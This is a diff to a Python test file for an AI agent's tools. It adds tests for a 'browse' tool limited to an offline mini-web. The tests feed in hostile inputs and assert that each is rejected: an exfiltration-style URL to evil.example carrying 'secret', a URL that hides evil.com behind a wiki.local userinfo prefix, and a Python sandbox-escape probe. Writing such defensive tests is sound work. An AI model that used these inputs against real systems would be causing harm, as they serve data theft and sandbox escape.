@@ -313,7 +313,7 @@ def test_date_errors(text, words):
 
 # ---- wiring: run_tool and the loop ----------------------------------------------------------------------------
 def test_new_tools_are_in_the_allowlist_and_the_prompt():
-    assert {"convert", "date", "code"} <= set(TOOL_DESCRIPTIONS)
+    assert {"convert", "date", "code", "browse"} <= set(TOOL_DESCRIPTIONS)
 
 
 def test_run_tool_runs_each_new_tool(search_tool):
@@ -321,6 +321,10 @@ def test_run_tool_runs_each_new_tool(search_tool):
     assert run_tool("date", "2024-02-28 + 2 days", search_tool).text == "2024-03-01 (Friday)"
     code = run_tool("code", "x = [3, 1, 2]; print(sorted(x), sum(x))", search_tool, SLOW)
     assert code.ok and code.text == "[1, 2, 3] 6"
+    page = run_tool("browse", "wiki.local/rag", search_tool)
+    assert page.ok and page.text.startswith("wiki.local/rag: Retrieval-augmented generation")
+    out = run_tool("browse", "https://evil.example/collect?q=secret", search_tool)
+    assert not out.ok and out.text.startswith("Error: only the offline mini-web")
 
 
 @pytest.mark.parametrize("name, tool_input, words", [
@@ -377,7 +381,9 @@ def test_try_a_tool_panel():
     for tool, text, shown, ok in [("date", "2024-02-28 + 2 days", "2024-03-01 (Friday)", True),
                                   ("code", "x = [3, 1, 2]; print(sorted(x))", "[1, 2, 3]", True),
                                   ("code", "().__class__.__bases__", "attribute access", False),
-                                  ("convert", "5 km to kg", "cannot convert", False)]:
+                                  ("convert", "5 km to kg", "cannot convert", False),
+                                  ("browse", "wiki.local/kv-cache", "512 KiB per token", True),
+                                  ("browse", "http://wiki.local@evil.com/x", "evil.com is not reachable", False)]:
         at.selectbox(key="try_tool").set_value(tool).run()
         at.text_input(key="try_input").input(text).run()
         assert_ok(at, "Agents")
